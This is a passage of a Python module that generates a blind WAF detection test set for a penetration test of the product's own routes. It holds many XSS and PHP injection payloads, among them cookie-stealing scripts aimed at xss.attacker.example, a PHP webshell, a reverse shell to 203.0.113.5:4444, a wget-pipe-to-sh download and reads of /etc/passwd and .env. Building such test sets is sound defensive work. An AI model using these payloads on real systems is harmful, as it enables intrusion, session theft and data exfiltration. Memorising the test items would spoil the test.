"""Blind set "hundredsixtieth": a penetration test of this very product (Jeeves' data API, admin panel, /me/ pages,
Sign in with Slack, Slack's events, slash commands and button clicks, and TokenDealer's OAuth forms) with the
cross-site scripting and PHP injection titles, plus benign requests that carry the same words innocently.

The angle: a tester who read README.md, app/ and tokendealer/ and knows which field each handler reads attacks
those fields with what fits them. Stored XSS goes where a value is kept and shown again (a user's name and email
through PATCH /api/users/<id>, the remembered location, an OAuth client's description, the User-Agent kept with
an admin session); reflected XSS where a value comes back in a page (the admin searches' `q`, the login form's
username and `next`, /me/'s timezone); JavaScript URIs where a value becomes a link or a redirect (`next`,
`redirect_uri`, Slack's `<url|label>` markup); DOM and template payloads where a page's script or a client
framework may read the value (`done`, `error_description`, searches). PHP payloads go where a PHP component
behind the edge (a legacy page, a PHP-FPM pool on the same nginx, a log or template a PHP script includes)
would take them: open tags into values that end up in logs and files (User-Agent, descriptions, places), code
into values a bot or search might evaluate (slash command text, the search box, `since`), wrapper URIs into
values that name a page, file or redirect (`done`, `for`, `next`, the switch's action), serialized objects into
session cookies, tokens and the interaction `payload`, php.ini directives into query strings (PHP-CGI argument
injection) and FastCGI path info, superglobal references into evaluated text, PHP file names into uploads. Each
list's comment names the family, the target (browser, PHP interpreter, PHP-CGI, PHP-FPM, unserialize()) and the
field.

Families (`sub`, one per detection title):
  xss: libinjection-xss, script-tag, event-handler, attribute-vector, javascript-uri, html-injection, svg-mathml,
    css-expression, template-literal-dom-sink, ie-filter-style, encoded-entity, angular-vue-template
  php: php-open-tag, php-function-call, php-variable-functions, php-wrappers, php-object-injection,
    php-config-directives, php-superglobals, php-file-upload, php-high-risk-function-names

Placements: every payload is sent twice. Once to the real field it targets (its "real" placement names the
field: api-name is PATCH /api/users/42 {"name": ...}, me-place is POST /me/location's `place`, td-scope is
POST /oauth/token's `scope`, ua is the User-Agent of an admin page, upload is a multipart file name, ...), once
the way a WAF regression suite sends it (placements prefixed "rs-"): to paths that are not our routes (/,
/index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under arbitrary parameter names (foo, var,
x, test, id, arg1), as a query string, form body, JSON body, XML body, a raw form-typed body, in User-Agent,
Referer, a custom header or a cookie. PHP-CGI argument strings go raw in the query string, upload names as
multipart file names, in both placements.

Authorship and independence: written for this repository from general knowledge of each attack family and the
detection titles alone, after reading the product's routes; no WAF rule, engine source, ruleset regression test
or public payload list was read. The serialized PHP objects and the base64 and deflate strings are built here
(lengths computed, not copied). Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

import base64
import json
import urllib.parse
import zlib
from collections.abc import Iterator
from typing import Any

from .blind_placements import COOKIE_SAFE, FORM, RS_NAMES, RS_PATHS, BlindSet, Put, Record, enc, header_safe, request
from .family_gen import _get, _query
from .family_gen_blind_php import chat_and_bio, links_and_prose
from .records import numbered, print_records

NAME = "hundredsixtieth"


# ----------------------------------------------------------------------------------------------------------------
# Small builders: base64, raw deflate, PHP's serialize() format (lengths in bytes, as PHP counts them)
def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _deflate_b64(text: str) -> str:
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    return base64.b64encode(comp.compress(text.encode()) + comp.flush()).decode()


def _s(text: str) -> str:
    return f's:{len(text.encode())}:"{text}";'


def _prot(name: str) -> str:
    """A protected property name in the S: form, its NUL bytes written as \\00 escapes."""
    return f'S:{len(name) + 3}:"\\00*\\00{name}";'


def _priv(cls: str, name: str) -> str:
    escaped = cls.replace("\\", "\\5c")   # a backslash is itself escaped in the S: form
    return f'S:{len(cls) + len(name) + 2}:"\\00{escaped}\\00{name}";'


def _obj(cls: str, props: list[str]) -> str:
    return f'O:{len(cls)}:"{cls}":{len(props) // 2}:{{{"".join(props)}}}'


def _arr(items: list[str]) -> str:
    return f'a:{len(items) // 2}:{{{"".join(items)}}}'


# ----------------------------------------------------------------------------------------------------------------
# Payloads. An entry is a payload string, or (payload, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str]

# ---- xss --------------------------------------------------------------------------------------------------------
# libinjection-xss / browser (admin panel's Users table and /me/ page render the stored name) /
# PATCH /api/users/<id> {"name"}: the first short probes that break out of a table cell or an element
LIBINJ_NAME: list[Entry] = [
    "<img src=x onerror=alert(document.domain)>",
    "\"><script>alert(1)</script>",
    "'\"><img src=x onerror=prompt(1)>",
    "</td><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(document.cookie)</script>",
    "<img src=x:x onerror=alert(1)//",
    "<x onclick=alert(1)>click me",
    "Ann<script>new Image().src='//xss.attacker.example/c?'+document.cookie</script>",
    "<body onpageshow=alert(1)>",
]
# libinjection-xss / browser (admin Users search re-renders `q` in value="...") / GET /admin/users?q= and the
# audit log's ?q=
LIBINJ_Q: list[Entry] = [
    "\"><svg onload=alert(1)>",
    "\" autofocus onfocus=\"alert(1)",
    "\"><input autofocus onfocus=alert(origin)>",
    "'><details open ontoggle=confirm(1)>",
    "\"><video><source onerror=alert(1)>",
    "\"><keygen autofocus onfocus=alert(1)>",
    "\"><audio src onerror=alert(1)>",
    "\"><isindex action=javascript:alert(1) type=submit>",
    "\"><img src=/ onerror=alert(1)><!--",
    "--><script>alert(1)</script>",
]
# script-tag / browser (the remembered location is shown on /me/ and the App Home) / POST /me/location `place`
SCRIPT_PLACE: list[Entry] = [
    "<script>alert(document.domain)</script>",
    "<script src=//xss.attacker.example/x.js></script>",
    "Paris<script>fetch('https://xss.attacker.example/c',{method:'POST',body:document.cookie})</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/x>alert(1)</script>",
    "<script >alert(String.fromCharCode(88,83,83))</script >",
    "<script type=module>import('//xss.attacker.example/m.js')</script>",
    "<script>eval(atob('" + _b64("alert(document.cookie)") + "'))</script>",
    "<script>location='//xss.attacker.example/?'+document.cookie</script>",
    "<<script>alert(1);//<</script>",
]
# script-tag / browser (an OAuth client's description is echoed in the admin Clients table) / POST /admin/clients
# `description`
SCRIPT_DESC: list[Entry] = [
    "<script>navigator.sendBeacon('//xss.attacker.example',document.body.innerHTML)</script>",
    "<script src=\"data:text/javascript,alert(1)\"></script>",
    "<script>document.write('<img src=//xss.attacker.example/'+document.cookie+'>')</script>",
    "</script><script>alert(1)</script>",
    "<script charset=\"ISO-8859-1\" src=//xss.attacker.example/a></script>",
    "<script>self['al'+'ert'](1)</script>",
    "<script>onerror=alert;throw 1</script>",
    "<script>top[/al/.source+/ert/.source](1)</script>",
    "<script nonce=r4nd0m>alert(1)</script>",
    "<script>new Function('ale'+'rt(document.domain)')()</script>",
]
# event-handler / browser (the admin login form re-renders the username in value="...") / POST /admin/login
# `username`
EVENT_LOGIN: list[Entry] = [
    "\" onfocus=\"alert(1)\" autofocus=\"",
    "\" onmouseover=alert(document.cookie) \"",
    "' onpointerenter='alert(1)",
    "\"><div onpointerover=\"alert(1)\">hover",
    "\" onanimationstart=alert(1) style=animation-name:spin x=\"",
    "\"><body onresize=alert(1)>",
    "\"><input onblur=alert(1) autofocus><input autofocus>",
    "\"><marquee onstart=alert(1)>",
    "\"><form onsubmit=alert(1)><button>Sign in</button>",
    "\"><img src=x onerror=this.src='//xss.attacker.example/?'+document.cookie>",
]
# event-handler / browser (/me/ re-renders the timezone in value="...") / POST /me/settings `timezone`
EVENT_TZ: list[Entry] = [
    "Europe/Paris\"><body onhashchange=alert(1)><a href=#x>x",
    "\"><object data=x onerror=alert(1)>",
    "\"><select onchange=alert(1)><option>1<option>2",
    "\"><style onload=alert(1)></style>",
    "\"><iframe onload=alert(document.domain)>",
    "\"><div onwheel=alert(1) style=height:9999px>scroll",
    "\"><textarea onselect=alert(1) autofocus>select me",
    "\"><a onauxclick=alert(1)>right click",
    "\"><body onbeforeprint=alert(1)>",
    "\"><input type=image src=x onerror=alert(1)>",
]
# attribute-vector (src/href/style/formaction) / browser (the admin login's hidden `next` and the Clients form
# echo) / POST /admin/login `next`
ATTR_NEXT: list[Entry] = [
    "\"><button formaction=javascript:alert(1)>Sign in",
    "\"><button formaction=\"//xss.attacker.example/steal\" formmethod=post>Continue</button>",
    "\"><input type=submit formaction=javascript:alert(document.cookie) value=Continue>",
    "\"><img src='https://xss.attacker.example/log?html=",
    "\" formaction=\"javascript:alert(1)",
    "\" src=x onerror=alert(1) x=\"",
    "\" style=\"position:fixed;top:0;left:0;width:100%;height:100%\" onmouseover=\"alert(1)",
    "\" accesskey=\"x\" onclick=\"alert(1)",
    "\"><input type=hidden accesskey=X onclick=alert(1)>",
    "\"><img srcset=\"x 1x, y 2x\" onerror=alert(1)>",
]
# attribute-vector / browser (the one-time sign-in link page /auth/slack/link/<token> carries a secret in its
# URL: a referrer leak or a tab-nab is enough) / POST /admin/clients `description`
ATTR_DESC: list[Entry] = [
    "\"><meta name=referrer content=unsafe-url><img src=//xss.attacker.example/r>",
    "\"><a target=_blank href=//xss.attacker.example/tabnab>open the report</a>",
    "\"><a href=\"data:text/html;base64," + _b64("<script>alert(document.domain)</script>") + "\">docs</a>",
    "\"><img src=x:alert(alt) onerror=eval(src) alt=0>",
    "\"><embed src=//xss.attacker.example/x.swf allowscriptaccess=always>",
    "\"><video poster=javascript:alert(1)>",
    "\"><img src=x style=display:none onerror=alert(1)>",
    "\"><a href=\" javascript:alert(1)\">details</a>",
    "\"><area href=javascript:alert(1) shape=default>",
    "\"><a ping=//xss.attacker.example/ping href=/me/>my data</a>",
]
# javascript-uri / browser (the login's `next` becomes the redirect after sign-in) / GET /admin/login?next=
JSURI_NEXT: list[Entry] = [
    "javascript:alert(document.domain)",
    "javascript:alert(1)//",
    "JaVaScRiPt:alert(1)",
    "javascript://%0aalert(1)",
    "javascript://admin/%0Dalert(document.cookie)",
    "java%0ascript:alert(1)",
    "java\tscript:alert(1)",
    " \x01javascript:alert(1)",
    "javascript:fetch('//xss.attacker.example/'+document.cookie)",
    "javascript:void(location='//xss.attacker.example/?'+document.cookie)",
    "javascript:eval(name)",
    "javascript:top['al\\x65rt'](1)",
]
# javascript-uri / browser (Sign in with Slack's redirect_uri; Slack's <url|label> link markup in a DM that the
# bot turns back into a link) / GET /auth/slack/login?redirect_uri= and Slack event text
JSURI_REDIRECT: list[Entry] = [
    "javascript:%61lert(1)",
    "javascript:window.opener.location='//xss.attacker.example/phish'",
    "javascript:import('//xss.attacker.example/m.js')",
    "javascript:alert?.(1)",
    "javascript:''.constructor.constructor('alert(1)')()",
    "javascript:prompt.call(null,document.domain)",
    "javascript:location.href='//xss.attacker.example/'+btoa(document.cookie)",
    "javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>*/",
]
JSURI_SLACK: list[Entry] = [
    "<javascript:alert(document.cookie)|Open the weather report>",
    "remember location <javascript:alert(1)|Paris>",
]
# html-injection (iframe/object/embed/base/meta/link/form) / browser (the bot's reply and /me/'s recent actions
# show the text) / Slack event text of an @mention
HTML_SLACK: list[Entry] = [
    "<iframe src=//xss.attacker.example/login.html width=100% height=600 frameborder=0></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;parent.alert(document.cookie)&lt;/script&gt;\"></iframe>",
    "<object data=//xss.attacker.example/x.html></object>",
    "<embed src=//xss.attacker.example/x.svg type=image/svg+xml>",
    "<base href=\"//xss.attacker.example/\">",
    "<meta http-equiv=refresh content=\"0;url=//xss.attacker.example/phish\">",
    "<meta http-equiv=\"Set-Cookie\" content=\"__Host-jeeves_me=fixated\">",
    "<link rel=stylesheet href=//xss.attacker.example/leak.css>",
    "<form action=//xss.attacker.example/collect method=post><input name=password type=password "
    "placeholder=\"Re-enter password\"><button>Confirm</button></form>",
    "<iframe src=\"data:text/html,<script>alert(1)</script>\">",
]
# html-injection / browser (the audit log shows actors and targets; the admin search echoes `q`) /
# GET /admin/audit?q=
HTML_AUDIT: list[Entry] = [
    "<form id=f action=/admin/users/1/admin method=post><input name=value value=1></form>",
    "<object type=application/x-shockwave-flash data=//xss.attacker.example/x.swf>"
    "<param name=allowScriptAccess value=always></object>",
    "<applet code=Exploit.class codebase=//xss.attacker.example/></applet>",
    "<frameset><frame src=//xss.attacker.example/></frameset>",
    "<portal src=//xss.attacker.example/></portal>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<a href=//xss.attacker.example/reset>Your session expired: sign in again</a>",
    "<link rel=prefetch href=//xss.attacker.example/p>",
    "<embed code=//xss.attacker.example/x.swf allowscriptaccess=always>",
    "<meta http-equiv=\"refresh\" content=\"0;url=data:text/html;base64," + _b64("<svg/onload=alert(1)>") + "\">",
]
# svg-mathml / browser (the location is rendered on /me/ and in the App Home) / POST /me/location `place`
SVG_PLACE: list[Entry] = [
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=//xss.attacker.example/x.js /></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Paris</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml;base64,"
    + _b64("<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>") + "#x\"/>",
    "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><discard onbegin=alert(1)>",
    "<svg/onload=location='//xss.attacker.example/?'+document.cookie>",
]
# svg-mathml / browser (the button's value becomes the remembered location) / POST /slack/interactions
# payload.actions[0].value
SVG_BUTTON: list[Entry] = [
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>click<mtext>x</mtext></maction></math>",
    "<math href=javascript:alert(1)>CLICKME</math>",
    "<math><mi xlink:href=data:x,<script>alert(1)</script>>click</mi></math>",
    "<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>alert(1)</handler></svg>",
    "<svg xmlns=http://www.w3.org/2000/svg><image href=x onerror=alert(1) />",
    "<svg><animatetransform onbegin=alert(1) attributeName=transform>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><set href=#x attributeName=href to=javascript:alert(1) /><a id=x><text y=9>x</text></a></svg>",
]
# css-expression / browser (old IE expression(), CSS exfiltration of the page's csrf_token) / POST /me/settings
# `timezone` (re-rendered in value="...")
CSS_TZ: list[Entry] = [
    "x:expression(alert(document.cookie))",
    "\"><div style=\"width:expression(alert(1))\">",
    "\"><div style=\"background:url('javascript:alert(1)')\">",
    "\"><style>body{background:url(\"javascript:alert(1)\")}</style>",
    "\"><style>@import'//xss.attacker.example/x.css';</style>",
    "\"><style>input[name=csrf_token][value^=a]{background:url(//xss.attacker.example/t?a)}</style>",
    "</style><script>alert(1)</script>",
    "\"><style>*{behavior:url(//xss.attacker.example/x.htc)}</style>",
    "\"><div style=\"-moz-binding:url(//xss.attacker.example/x.xml#xss)\">",
    "\"><div style=\"xss:expr/**/ession(alert(1))\">",
]
# css-expression / browser / POST /admin/clients `description`
CSS_DESC: list[Entry] = [
    "<div style=\"x:e\\xpression(alert(1))\">",
    "<style>@import \"data:,*%7bx:expression(alert(1))%7D\";</style>",
    "<link rel=stylesheet href=\"javascript:alert(1)\">",
    "<img style=\"xss:expression(alert('XSS'))\">",
    "<style>li{list-style-image:url(\"javascript:alert(1)\")}</style><ul><li>x",
    "<style>body{-o-link:'javascript:alert(1)';-o-link-source:current}</style>",
    "<div style=\"background-image:url(&#1;javascript:alert(1))\">",
    "<style>@keyframes x{}</style><xss style=\"animation-name:x\" onanimationend=\"alert(1)\"></xss>",
    "expression(eval(String.fromCharCode(97,108,101,114,116,40,49,41)))",
    "<style>@font-face{font-family:x;src:url(//xss.attacker.example/f?a);unicode-range:U+0061}"
    "input{font-family:x}</style>",
]
# template-literal / DOM sink / browser (a page script that reads `done` or the callback's error into a string,
# innerHTML or eval) / GET /me/?done= and GET /auth/slack/callback?error_description=
DOM_DONE: list[Entry] = [
    "${alert(document.domain)}",
    "`-alert(1)-`",
    "'-alert(1)-'",
    "\";alert(1);//",
    "\\';alert(1);//",
    "${fetch('//xss.attacker.example/?'+document.cookie)}",
    "`${alert`1`}`",
    "alert`1`",
    "');alert(1);//",
    "\"}]);alert(1);//",
]
DOM_ERROR: list[Entry] = [
    "'+alert(1)+'",
    "\"-confirm(1)-\"",
    "${[].constructor.constructor('alert(1)')()}",
    "<img src=x onerror=eval(location.hash.slice(1))>#alert(document.cookie)",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "<iframe src=/me/ onload=\"this.contentWindow.postMessage('<img src=x onerror=alert(1)>','*')\">",
    "';document.location='//xss.attacker.example/?c='+document.cookie;//",
    "-alert(document.cookie)-",
    "</script><img src=x onerror=setTimeout('alert(1)')>",
    "\\u0027);alert(1)//",
]
# template-literal / DOM sink: prototype pollution of a client-side query parser into an innerHTML/srcdoc gadget /
# parameter names of GET /api/users
DOM_PROTO: list[Entry] = [
    ("__proto__[innerHTML]=<img/src/onerror=alert(1)>", "rs-raw-query"),
    ("__proto__[srcdoc][]=<script>alert(1)</script>", "rs-raw-query"),
]
# ie-filter-style / browser (legacy IE: dynsrc, VML, HTC behaviours, conditional comments, data islands,
# UTF-7) / User-Agent of an admin page (kept with the admin session, shown in the gateway and session views)
IE_UA: list[Entry] = [
    "<img dynsrc=javascript:alert(1)>",
    "<img lowsrc=javascript:alert(1)>",
    "<bgsound src=javascript:alert(1)>",
    "<table background=javascript:alert(1)>",
    "<script for=window event=onload>alert(1)</script>",
    "<img src=\"vbscript:msgbox('XSS')\">",
    "<comment><img src=\"</comment><img src=x onerror=alert(1)//\">",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<body background=javascript:alert(1)>",
]
# ie-filter-style / browser (legacy IE) / GET /admin/users?q=
IE_Q: list[Entry] = [
    "<xml id=x><x><c><![CDATA[<img src=x onerror=alert(1)>]]></c></x></xml>"
    "<span datasrc=#x datafld=c dataformatas=html></span>",
    "<?xml:namespace prefix=t ns=urn:schemas-microsoft-com:time><?import namespace=t implementation=#default#time2>"
    "<t:set attributeName=innerHTML to=XSS<script>alert(1)</script>>",
    "<html xmlns:xss><?import namespace=\"xss\" implementation=\"//xss.attacker.example/x.htc\"><xss:xss>XSS</xss:xss>",
    "<style>@im\\port'\\ja\\vasc\\ript:alert(1)';</style>",
    "<div style=\"background:url(vbscript:msgbox(1))\">",
    "<meta http-equiv=\"X-UA-Compatible\" content=\"IE=5\"><p style=\"x:expression(alert(1))\">",
    "<object classid=clsid:ae24fdae-03c6-11d1-8b76-0080c744f389><param name=url value=javascript:alert(1)></object>",
    "<img src=`javascript:alert(1)`>",
    "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
    "<frameset onload=alert(1)>",
]
# encoded / entity vectors / browser (Slack escapes &, < and > and the bot undoes them before it stores or shows
# the text) / Slack DM text
ENC_SLACK: list[Entry] = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "remember location &lt;img src=x onerror=alert(document.cookie)&gt;",
    "&lt;svg/onload=alert(1)&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
]
# encoded / entity vectors / browser (admin Users search; the query string is sent as the tester typed it,
# already percent-encoded once or twice) / GET /admin/users?q= (raw)
ENC_Q_RAW: list[Entry] = [
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    "%26lt%3Bscript%26gt%3Balert(1)%26lt%3B%2Fscript%26gt%3B",
    "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE",
    "%u003Cscript%u003Ealert(1)%u003C/script%u003E",
]
# encoded / entity vectors / browser (the stored name, entity-encoded markup the renderer may decode) /
# PATCH /api/users/<id> {"name"}
ENC_NAME: list[Entry] = [
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript&#x3A;alert(1)\">x</a>",
    "<img src=x onerror=\"&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;\">",
    "<img src=x onerror=\\u0061lert(1)>",
    "<a href=\"javascript&colon;alert&lpar;1&rpar;\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<img src=x onerror=&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<svg><script>&#97;lert(1)</script></svg>",
]
# encoded / entity vectors / browser (JSON \\u escapes in a hand-written body: the API decodes them to markup) /
# PATCH /api/users/<id> raw JSON "name"
ENC_JSON_RAW: list[Entry] = [
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\u003cimg src=x onerror=alert(document.domain)\\u003e",
]
# angular / vue client templates / browser (a client framework compiling the page would evaluate these) /
# GET /admin/users?q= and POST /me/location `place`
CSTI_Q: list[Entry] = [
    "{{constructor.constructor('alert(1)')()}}",
    "{{$on.constructor('alert(1)')()}}",
    "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}",
    "{{x = {'y':''.constructor.prototype}; x['y'].charAt=[].join;$eval('x=alert(1)');}}",
    "{{toString.constructor.prototype.toString=toString.constructor.prototype.call;"
    "[\"a\",\"alert(1)\"].sort(toString.constructor)}}",
    "<input autofocus ng-focus=$event.view.alert(1)>",
    "<div ng-app>{{$eval.constructor('alert(1)')()}}</div>",
    "{{[].pop.constructor('alert(1)')()}}",
    "{{$event.composedPath()|orderBy:'[].constructor.from([1],alert)'}}",
    "<div ng-app ng-init=\"constructor.constructor('alert(1)')()\">",
]
CSTI_PLACE: list[Entry] = [
    "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>",
    "{{_c.constructor('alert(1)')()}}",
    "{{$el.ownerDocument.defaultView.alert(1)}}",
    "{{_openBlock.constructor('alert(1)')()}}",
    "<div v-if=\"_c.constructor('alert(1)')()\"></div>",
    "<div x-data x-init=\"alert(1)\"></div>",
    "<div data-bind=\"html:'<img src=x onerror=alert(1)>'\"></div>",
    "<img src=x ng-on-error=\"$event.target.ownerDocument.defaultView.alert(1)\">",
    "[[constructor.constructor('alert(1)')()]]",
    "<div ng-app ng-csp><div ng-click=$event.view.alert(1)>click</div></div>",
]

# ---- php --------------------------------------------------------------------------------------------------------
WEBSHELL = "<?php if(isset($_REQUEST['c'])){system($_REQUEST['c']);} ?>"
# php-open-tag / PHP interpreter (log poisoning: the access log a PHP page includes, the session row's
# User-Agent) / User-Agent
OPEN_UA: list[Entry] = [
    "<?php echo shell_exec($_GET['e']); ?>",
    "<?php passthru($_REQUEST['x']); ?>",
    "<?= system('id') ?>",
    "<?=`$_GET[0]`?>",
    "<? echo exec('whoami'); ?>",
    "<?php phpinfo(); ?>",
    "<?php @eval($_POST['pass']);?>",
    "<?php die(md5('waftest')); ?>",
    "Mozilla/5.0 <?php system($_SERVER['HTTP_X_C']); ?>",
]
# php-open-tag / PHP interpreter (a description or place written into a cached .php or an included file) /
# POST /admin/clients `description`, POST /me/location `place`
OPEN_DESC: list[Entry] = [
    "<?php file_put_contents('s.php','<?php system($_GET[0]);'); ?>",
    "<?PHP include($_GET['f']); ?>",
    "<?php\nsystem('uname -a');",
    "<?php /**/ echo `id`;",
    "<script language=php>passthru('ls -la /');</script>",
    "<% system('id'); %>",
    "<%= shell_exec('id') %>",
    "<?php echo 7*7; ?>",
    "<?=phpversion()?>",
]
OPEN_PLACE: list[Entry] = [
    "<?php $s=fsockopen(\"203.0.113.5\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\"); ?>",
    "<?php readfile('/etc/passwd'); ?>",
    "GIF89a<?php system($_GET['c']); ?>",
    "<?php header('X-Probe: '.php_uname()); ?>",
    "<?php\tprint(`cat /etc/hostname`);",
    "<?php var_dump(scandir('/')); ?>",
    "<?php copy('http://attacker.example/sh.txt','sh.php'); ?>",
    "<?php echo base64_encode(file_get_contents('/var/www/.env')); ?>",
]
# php-function-call / PHP interpreter (a bot command or search string handed to eval or preg_replace /e) /
# POST /slack/commands `text`
FUNC_COMMAND: list[Entry] = [
    "system('id');",
    "exec('cat /etc/passwd', $o); print_r($o);",
    "passthru('uname -a');",
    "shell_exec('wget -qO- http://attacker.example/x.sh | sh');",
    "popen('id', 'r');",
    "proc_open('/bin/sh', [0=>['pipe','r'],1=>['pipe','w']], $p);",
    "assert(\"system('id')\");",
    "eval('phpinfo();');",
    "create_function('$a', 'system($a);');",
    "preg_replace('/.*/e', 'system(\"id\")', 'x');",
    "pcntl_exec('/bin/sh', ['-c', 'id']);",
    "array_map('passthru', ['cat /etc/passwd']);",
    "call_user_func_array('system', ['id']);",
]
# php-function-call / PHP interpreter (the search box highlighted with preg_replace /e, a date given to an eval'd
# strtotime) / GET /admin/users?q=, GET /api/usage/stats?since=
FUNC_SEARCH: list[Entry] = [
    "{${system('id')}}",
    "$a=['id','x'];usort($a,'system');",
    "register_shutdown_function('system', 'id');",
    "mb_ereg_replace('.*', 'system(\"id\")', 'x', 'e');",
    "preg_replace_callback('/.+/', function($m){return shell_exec('id');}, 'x');",
    "ob_start('system'); echo 'id'; ob_end_flush();",
    "array_filter(['id'], 'passthru');",
    "mail('a@example.org','x','y','','-X/var/www/html/s.php -OQueueDirectory=/tmp');",
    "putenv('LD_PRELOAD=/tmp/x.so'); mail('a','b','c');",
    "eval(str_rot13('flfgrz(\"vq\");'));",
    "assert(base64_decode('" + _b64('system("id");') + "'));",
    "\"; system('id'); //",
    "'.system('id').'",
    "(new ReflectionFunction('system'))->invoke('id');",
]
# php-variable-functions / PHP interpreter (a value interpolated into eval'd code) / PATCH /api/users/<id>
# {"name"}, POST /slack/commands `text`
VARFUNC_NAME: list[Entry] = [
    "$f='system';$f('id');",
    "$a='sys';$b='tem';($a.$b)('id');",
    "('sy'.'stem')('cat /etc/passwd');",
    "$_GET['f']($_GET['a']);",
    "$_POST[0]($_POST[1]);",
    "${'_GET'}['f'](${'_GET'}['a']);",
    "$x=str_rot13('flfgrz');$x('id');",
    "(strrev('metsys'))('id');",
    "$f=base64_decode('" + _b64("system") + "');$f('id');",
    "$f=chr(115).chr(121).chr(115).chr(116).chr(101).chr(109);$f('whoami');",
    "$f=\"\\x73\\x79\\x73\\x74\\x65\\x6d\";$f('id');",
    "$f=\"\\163\\171\\163\\164\\145\\155\";$f('id');",
    "$a='b';$b='system';$$a('id');",
]
VARFUNC_COMMAND: list[Entry] = [
    "call_user_func($_GET['cb'], $_GET['arg']);",
    "$f=$_COOKIE['f'];$f($_COOKIE['a']);",
    "$x='assert';$x($_REQUEST['code']);",
    "@$_GET[1](@$_GET[2]);",
    "(implode('',['s','y','s','t','e','m']))('id');",
    "$k='ex'.'ec';echo $k('id');",
    "$f=hex2bin('73797374656d');$f('id');",
    "$f=gzinflate(base64_decode('" + _deflate_b64("system") + "'));$f('id');",
    "${\"\\x5f\\x47\\x45\\x54\"}[0](${\"\\x5f\\x47\\x45\\x54\"}[1]);",
    "$f=strtolower('SYSTEM');$f('id');",
    "$f=substr('xsystem',1);$f('id');",
    "array_walk($_GET, $_GET['cb']);",
]
# php-variable-functions / PHP interpreter (the non-alphanumeric shell: names built by XOR of bytes the server
# percent-decodes) / GET /admin/users?q= (raw)
VARFUNC_RAW: list[Entry] = [
    "$_=('%01'^'`').('%13'^'`').('%13'^'`').('%05'^'`').('%12'^'`').('%14'^'`');"
    "$__='_'.('%0D'^']').('%2F'^'`').('%0E'^']').('%09'^']');$___=$$__;$_($___[_]);",
]
# php-wrappers / PHP interpreter (include/file_get_contents of a value naming a page or notice) /
# GET /me/?done=, GET /auth/slack/login?for=, GET /admin/login?next=
WRAP_DONE: list[Entry] = [
    "php://filter/convert.base64-encode/resource=index.php",
    "php://filter/read=string.rot13/resource=/etc/passwd",
    "php://filter/convert.iconv.utf-8.utf-16/resource=/var/www/html/config.php",
    "php://filter/zlib.deflate/convert.base64-encode/resource=/etc/hostname",
    "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-decode|convert.iconv.UTF8.UTF7/resource=php://temp",
    "php://fd/3",
    "data://text/plain;base64," + _b64("<?php system('id'); ?>"),
    "data:text/plain,<?php phpinfo(); ?>",
    "data://text/plain,<?=`id`?>",
    "php://filter/read=convert.quoted-printable-encode/resource=../../.env",
]
WRAP_FOR: list[Entry] = [
    "expect://id",
    "expect://ls%20-la",
    "phar:///var/www/uploads/avatar.gif/shell.php",
    "phar://./uploads/report.jpg",
    "zip:///var/www/uploads/docs.zip#shell.php",
    "compress.zlib:///etc/passwd",
    "compress.bzip2://phar:///tmp/x.phar/a",
    "glob:///var/www/html/*.php",
]
WRAP_NEXT: list[Entry] = [
    "glob://../config/*",
    "ssh2.exec://user:pass@127.0.0.1:22/id",
    "rar:///var/www/uploads/a.rar#shell.php",
    "PHP://FILTER/convert.base64-encode/resource=/proc/self/environ",
    "php://filter/string.toupper|string.rot13/resource=wp-config.php",
    "php://filter/dechunk/resource=/etc/passwd",
    "compress.zlib://php://input",
    "php://filter/resource=http://attacker.example/s.txt",
]
# php-object-injection / unserialize() (a session or state cookie a PHP component unserializes) / cookies
# __Host-jeeves_me and __Host-jeeves_oidc_state
_GEN = "Faker\\Generator"
OBJ_COOKIE: list[Entry] = [
    _obj("stdClass", [_s("role"), _s("admin")]),
